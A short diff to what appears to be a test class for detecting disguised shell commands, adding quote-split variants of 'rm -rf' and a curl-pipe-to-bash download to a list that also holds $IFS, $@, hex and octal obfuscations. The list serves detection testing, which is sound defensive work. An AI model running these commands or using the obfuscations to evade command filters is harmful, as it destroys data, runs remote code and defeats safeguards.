@@ -27,6 +27,8 @@ class DisguisedCommandTest {
         "pipe_to_shell ~ curl$IFS$9-s$IFS$9http://198.51.100.20/g|bash",
         "pipe_to_shell ~ cu$@rl -s http://198.51.100.20/g | ba$@sh",
         "destructive_rm ~ r\"\"m -r\"\"f /",
+        "destructive_rm ~ r'm' -r\"f\" /home/dev",
+        "pipe_to_shell ~ cu'rl' -s http://198.51.100.20/g | ba'sh'",
         "destructive_rm ~ $'\\x72\\x6d' -rf /",
         "destructive_rm ~ $'\\162\\155' -rf /",
         "destructive_rm ~ \\r\\m -rf /",
